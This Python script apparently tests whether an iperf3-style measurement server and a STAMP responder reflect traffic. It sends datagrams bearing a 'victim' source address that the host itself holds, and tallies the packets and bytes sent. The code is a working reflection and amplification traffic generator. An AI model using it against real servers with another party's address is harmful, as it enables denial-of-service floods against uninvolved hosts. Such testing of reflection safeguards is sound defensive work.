"""Asks a server for data with datagrams whose source address is another host's.

Arguments: service (probe, reverse, forward, idle or stamp), address of the server, address of the victim, which this host has, too.
Prints what was sent with the victim's address as JSON: packets and bytes with their IP and Ethernet headers.
"""

import json
import socket
import struct
import sys
import time

service, server, victim = sys.argv[1:4]
PORT, STAMP_PORT, SECONDS = 5201, 862, 3.0
HEADERS = 14 + 20 + 8
sent = {"packets": 0, "bytes": 0}
forged = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
forged.bind((victim, 0))


def forge(payload, port):
    """Sends a datagram that seems to come from the victim."""
    forged.sendto(payload, (server, port))
    sent["packets"] += 1
    sent["bytes"] += max(len(payload) + HEADERS, 60)


def control(cookie):
    """Opens a control connection from the attacker's own address."""
    stream = socket.create_connection((server, PORT), timeout=10)
    stream.sendall(cookie.ljust(36, b"a") + b"\0")
    return stream


def exactly(stream, count):
    """Reads a number of bytes."""
    data = b""
    while len(data) < count:
        more = stream.recv(count - len(data))
        if not more:
            raise ConnectionError("the server closed the connection")
        data += more
    return data


def probe():
    """Asks a probe session for streams, to the address that has shown the token."""
    stream = control(b"linerateb")

    def say(**request):
        document = json.dumps(request).encode()
        stream.sendall(b"L" + struct.pack("!I", len(document)) + document)

    def answer(*kinds):
        while True:
            document = json.loads(exactly(stream, struct.unpack("!xI", exactly(stream, 5))[0]))
            kind = next(iter(document))
            if kind in kinds:
                return kind, document[kind]

    say(open={})
    opened = answer("opened")[1]
    token = opened["token"].encode()
    end = time.monotonic() + SECONDS
    number = 1000
    while time.monotonic() < end:
        for text in (token, token[:16], token * 3):
            forge(bytes(44) + struct.pack("!BBH", 0, 1, len(text)) + text, opened["port"])
        order = {"stream": number, "size": 1400, "rate": 10**9, "spacing": "periodic", "limit": {"duration": 10**10}}
        say(send={**order, "type_of_service": 0, "dont_fragment": False})
        assert answer("refused", "sending")[0] == "refused"
        say(alive={})
        number += 1
        time.sleep(0.05)


def request_streams(**direction):
    """Asks for a UDP test, and requests its streams with the victim's address, in each form of a request."""
    stream = control(b"f" * 36)
    assert exactly(stream, 1) == b"\x09"
    parameters = {"udp": True, "omit": 0, "time": 10, "num": 0, "blockcount": 0, "parallel": 128, **direction}
    document = json.dumps({**parameters, "len": 1448, "bandwidth": 10**6, "client_version": "3.12"}).encode()
    stream.sendall(struct.pack("!I", len(document)) + document)
    assert exactly(stream, 1) == b"\x0a"
    repeated = struct.pack("!III", int(time.monotonic()), 0, 0).ljust(1448, b"\0")
    end = time.monotonic() + SECONDS
    while time.monotonic() < end:
        for request in (struct.pack("<I", 0x36373839), struct.pack("<I", 123456789), repeated, b""):
            forge(request, PORT)
        time.sleep(0.05)


def reverse():
    """Asks for a test in which the server sends."""
    request_streams(reverse=True)


def forward():
    """Asks for a test in which the server receives: it answers the request of each stream."""
    request_streams()


def idle():
    """Sends requests while no session expects any: the server's host answers for a closed port."""
    end = time.monotonic() + SECONDS
    while time.monotonic() < end:
        forge(struct.pack("<I", 0x36373839), PORT)
        time.sleep(0.01)


def stamp():
    """Sends STAMP packets of the smallest size that is answered, as fast as possible."""
    end = time.monotonic() + SECONDS
    while time.monotonic() < end:
        forge(bytes(14), STAMP_PORT)


{"probe": probe, "reverse": reverse, "forward": forward, "idle": idle, "stamp": stamp}[service]()
print(json.dumps(sent))
